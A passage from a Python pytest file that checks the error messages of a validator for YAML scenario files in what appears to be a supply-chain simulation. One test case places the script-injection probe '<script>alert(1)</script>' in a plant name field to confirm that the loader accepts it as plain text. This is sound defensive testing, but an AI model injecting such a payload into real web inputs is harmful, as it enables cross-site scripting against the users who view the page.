        (("lane: foundry-suzhou", "lane: foundry-kassel"),),
        [
            "s.yaml:60:13: relations.housings.near.lane: found 'foundry-kassel', which ends at 'kassel' (line 128); expected a lane to the plant 'suzhou' (line 59)"
        ],
    ),
    "audits after the end": (
        (("audits: {every: 1 year", "audits: {every: 13 years"),),
        [
            "s.yaml:159:19: contract.audits.every: found '13 years', expected at most horizon, which is '12 years' (line 8)"
        ],
    ),
    "reviews after the end": (
        (("reviewed: {every: 1 month", "reviewed: {every: 13 years"),),
        [
            "s.yaml:148:21: targets.reviewed.every: found '13 years', expected at most horizon, which is '12 years' (line 8)"
        ],
    ),
    "visits of nothing": (
        (
            (
                "visits: {suzhou-engineers: every 14 days, home-skilled-workers: every 120 days}",
                "visits:",
            ),
        ),
        ["s.yaml:62:14: relations.housings.near.visits: found nothing, expected a mapping"],
    ),
    "visits after the end": (
        (("home-skilled-workers: every 120 days", "home-skilled-workers: every 13 years"),),
        [
            "s.yaml:62:71: relations.housings.near.visits.home-skilled-workers: found 'every 13 years', expected at most horizon, which is '12 years' (line 8)"
        ],
    ),
    "visitors who leave before they are back": (
        (("home-skilled-workers: every 90 days", "home-skilled-workers: every 5 days"),),
        [
            "s.yaml:70:38: relations.housings.far.visits.home-skilled-workers: found 'every 5 days', expected at least 6 days between visits of 'home-skilled-workers': 2 people, each away for 12 days (line 143)"
        ],
    ),
    "an architecture that the part lacks": (
        (
            ("cross: {integral: 40 %, modular: 0 %}", "cross: {modular: 0 %}"),
            ("architecture: integral ", "architecture: modular "),
        ),
        [
            "s.yaml:176:3: regimes.near_apprenticeship.architecture: found 'integral', expected 'modular', the one architecture in parts.housing.cross (line 40)",
            "s.yaml:177:3: regimes.offshore_outsourcing.architecture: found 'integral', expected 'modular', the one architecture in parts.housing.cross (line 40)",
            "s.yaml:178:3: regimes.joint_venture.architecture: found 'integral', expected 'modular', the one architecture in parts.housing.cross (line 40)",
        ],
    ),
    "an architecture that a preset asks for and the part lacks": (
        (
            ("cross: {integral: 40 %, modular: 0 %}", "cross: {integral: 40 %}"),
            (
                "  joint_venture: {preset: joint_venture}\n",
                "  joint_venture: {preset: contract_manufacturing}\n",
            ),
        ),
        [
            "s.yaml:178:3: regimes.joint_venture.architecture: found 'modular', expected 'integral', the one architecture in parts.housing.cross (line 40)"
        ],
    ),
    "a part without architecture": (
        (("cross: {integral: 40 %, modular: 0 %}", "cross: {}"),),
        [
            "s.yaml:40:5: parts.housing.cross: found neither integral nor modular, expected one of them or both"
        ],
    ),
}

SETTINGS: dict[str, tuple[str, list[str]]] = {
    "126_sweep_unknown_path": (
        "hazards.strikes.rat=0.1 /year",
        [
            "--set: hazards.strikes.rat: unknown key 'rat', expected one of after, backlog, duration, lane, mode, on, passage, people, port, rate, season, site, stream; did you mean 'rate'?"
        ],
    ),
    "126_sweep_unknown_thing": (
        "hazards.strike.rate=0.1 /year",
        [
            "--set: hazards.strike: unknown key 'strike', expected one of no-travel, shanghai-weather, strikes; did you mean 'strikes'?"
        ],
    ),
    "128_sweep_empty": (
        "hazards.strikes.rate=",
        ["--set: hazards.strikes: found neither rate, on nor after, expected one of them"],
    ),
    "a key that is needed": (
        "relations.housings.quoted=null",
        ["--set: relations.housings: missing key 'quoted'"],
    ),
    "a section that is needed": (
        "relations.housings.demand=null",
        ["--set: relations.housings: missing key 'demand'"],
    ),
    "a key that is needed within a list": (
        "lanes.foundry-kassel.legs.1.freight=null",
        ["--set: lanes.foundry-kassel.legs.1: missing key 'freight'"],
    ),
    "a choice that a preset made": (
        "regimes.joint_venture.trials=null",
        ["--set: regimes.joint_venture: missing key 'trials'"],
    ),
    "a key that a supplier needs": (
        "firms.housing-maker.trial_teams=null",
        ["--set: firms.housing-maker: missing key 'trial_teams', expected of a supplier (line 57)"],
    ),
    "a key of a section that only shipped values say": (
        "targets.attention.per_exces=2",
        [
            "--set: targets.attention.per_exces: unknown key 'per_exces', expected one of cost_counts, per_excess; did you mean 'per_excess'?"
        ],
    ),
    "within a single value that is shipped": (
        "targets.attention.per_excess.most=2",
        ["--set: targets.attention.per_excess.most: found 1 above it, expected a mapping"],
    ),
    "what a hazard shuts": (
        "hazards.strikes.port=null",
        [
            "--set: hazards.strikes: found neither port, site, passage, people, lane nor mode, expected one of them",
        ],
    ),
    "130_sweep_wrong_type": (
        "hazards.strikes.rate=high",
        [
            "--set: hazards.strikes.rate: found 'high', expected a rate: a number per minute, hour, day, week, month or year, such as '4 /year'"
        ],
    ),
    "131_sweep_out_of_range": (
        "hazards.strikes.rate=-1 /year",
        ["--set: hazards.strikes.rate: found '-1 /year', expected a rate that is not negative"],
    ),
}


@pytest.mark.parametrize(("replacements", "messages"), CARRIED.values(), ids=CARRIED)
def test_a_fault_that_was_carried_over_is_told(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    replacements: tuple[Replacement, ...],
    messages: list[str],
) -> None:
    monkeypatch.chdir(tmp_path)

    assert complaints(tmp_path, *replacements, settings=[NO_CLAIMS]) == messages
    # Some of them would have touched a file here, had anything been run.
    assert [path.name for path in tmp_path.iterdir()] == ["s.yaml"]


@pytest.mark.parametrize(("replacements", "messages"), OTHERS.values(), ids=OTHERS)
def test_another_fault_is_told(
    tmp_path: Path, replacements: tuple[Replacement, ...], messages: list[str]
) -> None:
    assert complaints(tmp_path, *replacements, settings=[NO_CLAIMS]) == messages


@pytest.mark.parametrize(("setting", "messages"), SETTINGS.values(), ids=SETTINGS)
def test_a_fault_in_a_setting_is_told(tmp_path: Path, setting: str, messages: list[str]) -> None:
    assert complaints(tmp_path, settings=[NO_CLAIMS, setting]) == messages


def test_what_only_the_shipped_values_say_is_set_beside_them(tmp_path: Path) -> None:
    removed = [
        (line, "") for line in FLAGSHIP.read_text().splitlines(True) if "  attention: {" in line
    ]

    attention = loaded(
        tmp_path, *removed, settings=["targets.attention.per_excess=2"]
    ).scenario.targets.attention

    assert len(removed) == 1
    assert (attention.per_excess, attention.cost_counts) == (2.0, 5.0)


@pytest.mark.parametrize(
    "replacement",
    [
        ("seed: 20030106", "seed: 0x131A4BA"),
        ("seed: 20030106", "seed: +20030106"),
        ("start: 2003-01-06", "start: '2003-01-06'"),
        ("lat: 51.31", "lat: -0"),
        ("site_share: 25 %", "site_share: .5 %"),
        ("quoted: 14 days", "quoted: 1.4e1 days"),
        ("quoted: 14 days", "quoted:   14   days   # or two weeks"),
        ("country: DE", "country: NO"),
        ("Home plant (stand-in)", "\U0001f3ed Gie\xdferei"),
        ("Home plant (stand-in)", '"<script>alert(1)</script>"'),
        ("duration: {dist: exponential, mean: 1.4 days}", "duration: 34 hours"),
        ("rate: 0.08 /year", "on: [2003-01-06, 2015-01-05]"),
        ("cross: {integral: 40 %, modular: 0 %}", "cross: {integral: 40 %}"),
        ("most: 80 %, capability", "most: 20 %, capability"),
        ("dist: lognormal, mean: 60 days, sd: 30 days", "dist: empirical, values: [1 day, 9 days]"),
        ("dist: lognormal, mean: 60 days, sd: 30 days", "dist: normal, mean: 31 days, sd: 10 days"),
    ],
)
def test_what_only_looks_like_a_fault_is_taken(tmp_path: Path, replacement: Replacement) -> None:
    assert loaded(tmp_path, replacement).scenario.regimes


def test_line_ends_of_any_system_and_a_mark_change_nothing(tmp_path: Path) -> None:
    text = FLAGSHIP.read_text(encoding="utf-8")
    path = tmp_path / "s.yaml"
    hashes = set()
    for ends, mark in (("\n", b""), ("\r\n", b"\xef\xbb\xbf"), ("\r", b"")):
        path.write_bytes(mark + text.replace("\n", ends).encode())
        hashes.add(scenario_hash(load(path).tree))

    assert hashes == {scenario_hash(load(FLAGSHIP).tree)}


@pytest.mark.parametrize(
    ("encoding", "message"),
    [
        ("latin-1", "s.yaml:15:27: found the byte 0xdf, expected text in UTF-8"),
        ("utf-16", "s.yaml:1:1: found the byte 0xff, expected text in UTF-8"),
        ("utf-16-be", "s.yaml:15:54: found the byte 0xdf, expected text in UTF-8"),
    ],
)
def test_text_of_another_encoding_is_told_at_its_first_byte(
    tmp_path: Path, encoding: str, message: str
) -> None:
    text = FLAGSHIP.read_text(encoding="utf-8").replace("Home plant", "Werk Gie\xdfen")
    path = tmp_path / "s.yaml"
    path.write_bytes(text.encode(encoding))

    assert refusal(path) == [message]


@pytest.mark.parametrize(
    ("section", "emptied", "message"),
    [
        ("regimes", "regimes: {}", "s.yaml:164:10: regimes: found none, expected at least 1"),
        ("regimes", "regimes:", "s.yaml:164:9: regimes: found nothing, expected a mapping"),
        (
            "targets",
            "targets: null",
            "s.yaml:145:10: targets: found nothing, expected a mapping; leave the key out for its default",
        ),
        ("contract", "contract: []", "s.yaml:157:11: contract: found a list, expected a mapping"),
    ],
)
def test_a_section_that_is_empty_is_told(
    tmp_path: Path, section: str, emptied: str, message: str
) -> None:
    text = FLAGSHIP.read_text(encoding="utf-8")
    # From its key to the next line that is not indented.
    start = text.index(f"\n{section}:") + 1
    length = re.search(r"\n(?=\S)", text[start:])
    assert length is not None
    path = tmp_path / "s.yaml"
    path.write_text(text[:start] + emptied + text[start + length.start() :], encoding="utf-8")

    assert refusal(path, [NO_CLAIMS]) == [message]
